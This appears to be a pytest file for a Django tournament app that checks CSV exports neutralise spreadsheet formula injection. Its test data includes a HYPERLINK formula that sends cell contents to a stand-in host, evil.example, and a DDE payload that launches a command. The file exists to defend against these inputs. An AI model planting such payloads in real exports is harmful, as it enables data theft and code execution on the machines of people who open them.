"""CSV exports cannot carry spreadsheet formulas (OWASP "CSV injection")."""

import csv
import io
from decimal import Decimal
from fractions import Fraction

import pytest

from players.models import Player
from tests.conftest import api_as
from tournaments.csv_exports import FORMULA_TRIGGERS, safe_cell

DANGEROUS_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_text_starting_with_a_trigger_is_quoted(trigger):
    assert safe_cell(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("value", [-3, -1.5, Decimal("-2.50"), Fraction(-1, 3), 0, 7])
def test_numbers_stay_numbers_even_negative(value):
    assert safe_cell(value) is value


def test_text_that_only_looks_like_a_number_is_still_text():
    assert safe_cell("-3") == "'-3"
    assert safe_cell("2-1-0") == "2-1-0"  # a record: starts with a digit
    assert safe_cell("Anna = Bea") == "Anna = Bea"  # only the first character counts
    assert safe_cell(None) == ""


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode(), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_every_export_neutralises_formula_names(make_running_round, tournament, organiser):
    round_ = make_running_round(players=6)
    players = list(Player.objects.filter(registrations__tournament=tournament).order_by("id"))
    for player, name in zip(players, DANGEROUS_NAMES, strict=True):
        Player.objects.filter(pk=player.pk).update(display_name=name)
    client = api_as(organiser)
    exports = {
        "page standings": f"/tournaments/{tournament.pk}/standings.csv",
        "page pairings": f"/tournaments/{tournament.pk}/rounds/{round_.number}/pairings.csv",
        "api standings": f"/api/tournaments/{tournament.pk}/standings/csv/",
        "api pairings": f"/api/tournaments/{tournament.pk}/pairings/csv/?round={round_.number}",
    }
    for label, url in exports.items():
        rows = _cells(client.get(url))
        cells = [cell for row in rows for cell in row]
        for name in DANGEROUS_NAMES:
            assert "'" + name in cells, (label, name)
        for cell in cells:
            assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), (label, cell)


@pytest.mark.django_db
def test_page_and_api_export_the_same_table(make_running_round, tournament, organiser):
    round_ = make_running_round(players=6)
    client = api_as(organiser)
    same = {
        "standings": (
            f"/tournaments/{tournament.pk}/standings.csv",
            f"/api/tournaments/{tournament.pk}/standings/csv/",
        ),
        "pairings": (
            f"/tournaments/{tournament.pk}/rounds/{round_.number}/pairings.csv",
            f"/api/tournaments/{tournament.pk}/pairings/csv/?round={round_.number}",
        ),
    }
    for label, (page, api) in same.items():
        page_rows = _cells(client.get(page))
        assert page_rows == _cells(client.get(api)), label
        assert len(page_rows) > 1, label
